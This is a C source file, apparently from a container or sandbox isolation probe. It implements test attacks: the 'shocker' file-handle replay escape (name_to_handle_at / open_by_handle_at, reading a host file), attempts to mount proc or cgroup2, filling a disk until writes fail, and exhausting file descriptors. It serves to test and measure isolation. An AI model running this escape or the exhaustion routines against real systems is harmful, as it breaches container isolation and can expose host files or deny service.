// Escape-class attacks for the probe (see main.c for the output conventions): each prints
// one JSON line and exits 0.
//
//   handle PATH                    name_to_handle_at: {"type":N,"handle":"HEX"} (the host side
//                                  computes a handle of a host file for the shocker test)
//   try-open-handle PATH TYPE HEX  open_by_handle_at on the file system of PATH with that
//                                  handle ("shocker", CVE-2014-3519 class), then read it
//   try-mount FSTYPE TARGET        mount a fresh FSTYPE (e.g. cgroup2, proc) on TARGET
//   fill PATH                      write 1 MiB blocks to PATH until a write fails: how much fit
//   open-many N                    open /dev/null up to N times: how many fds it got
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

#include "probe.h"

#define MAX_HANDLE 128

static int cmd_handle(const char *path) {
    struct { struct file_handle h; unsigned char bytes[MAX_HANDLE]; } fh;
    fh.h.handle_bytes = MAX_HANDLE;
    int mount_id, err = 0;
    if (name_to_handle_at(AT_FDCWD, path, &fh.h, &mount_id, 0) < 0) err = errno;
    begin('{');
    k_str("path", path);
    k_result(err == 0, err);
    if (!err) {
        char hex[2 * MAX_HANDLE + 1];
        for (unsigned i = 0; i < fh.h.handle_bytes; i++) sprintf(hex + 2 * i, "%02x", fh.h.f_handle[i]);
        hex[2 * fh.h.handle_bytes] = 0;
        k_int("type", fh.h.handle_type);
        k_str("handle", hex);
    }
    end('}');
    return finish();
}

static int cmd_try_open_handle(const char *path, const char *type, const char *hex) {
    struct { struct file_handle h; unsigned char bytes[MAX_HANDLE]; } fh;
    size_t n = strlen(hex) / 2;
    if (n > MAX_HANDLE) return usage();
    for (size_t i = 0; i < n; i++) sscanf(hex + 2 * i, "%2hhx", &fh.h.f_handle[i]);
    fh.h.handle_bytes = (unsigned)n;
    fh.h.handle_type = atoi(type);
    static char buf[4096];
    ssize_t got = -1;
    int err = 0;
    int mfd = open(path, O_RDONLY | O_CLOEXEC);
    int fd = mfd < 0 ? -1 : open_by_handle_at(mfd, &fh.h, O_RDONLY | O_CLOEXEC);
    if (fd < 0) err = errno;
    else if ((got = read(fd, buf, sizeof buf)) < 0) err = errno;
    begin('{');
    k_str("path", path);
    k_result(err == 0, err);
    if (got >= 0) { key("data"); v_str(buf, (size_t)got); }
    end('}');
    if (fd >= 0) close(fd);
    if (mfd >= 0) close(mfd);
    return finish();
}

static int cmd_try_mount(const char *fstype, const char *target) {
    int err = mount("none", target, fstype, 0, NULL) < 0 ? errno : 0;
    begin('{');
    k_str("fstype", fstype);
    k_str("target", target);
    k_result(err == 0, err);
    end('}');
    return finish();
}

static int cmd_fill(const char *path) {
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    long long written = 0;
    int err = 0;
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0) err = errno;
    while (fd >= 0 && !err) {
        ssize_t n = write(fd, block, sizeof block);
        if (n < 0) err = errno;
        else if (n == 0) err = EIO;
        else written += n;
        if (written > (16LL << 30)) break;  // a bound for the probe itself: 16 GiB
    }
    if (fd >= 0) close(fd);
    begin('{');
    k_str("path", path);
    k_result(err == 0, err);
    k_int("bytes", written);
    end('}');
    return finish();
}

static int cmd_open_many(long limit) {
    long count = 0;
    int err = 0;
    for (; count < limit; count++) {
        if (open("/dev/null", O_RDONLY | O_CLOEXEC) < 0) { err = errno; break; }
    }
    begin('{');
    k_result(err == 0, err);
    k_int("opened", count);
    end('}');
    return finish();
}

int escape_command(int argc, char **argv) {
    const char *cmd = argv[1];
    const char *a = argc > 2 ? argv[2] : NULL, *b = argc > 3 ? argv[3] : NULL, *c = argc > 4 ? argv[4] : NULL;
    if (strcmp(cmd, "handle") == 0 && a) return cmd_handle(a);
    if (strcmp(cmd, "try-open-handle") == 0 && c) return cmd_try_open_handle(a, b, c);
    if (strcmp(cmd, "try-mount") == 0 && b) return cmd_try_mount(a, b);
    if (strcmp(cmd, "fill") == 0 && a) return cmd_fill(a);
    if (strcmp(cmd, "open-many") == 0 && a) return cmd_open_many(atol(a));
    return -1;
}
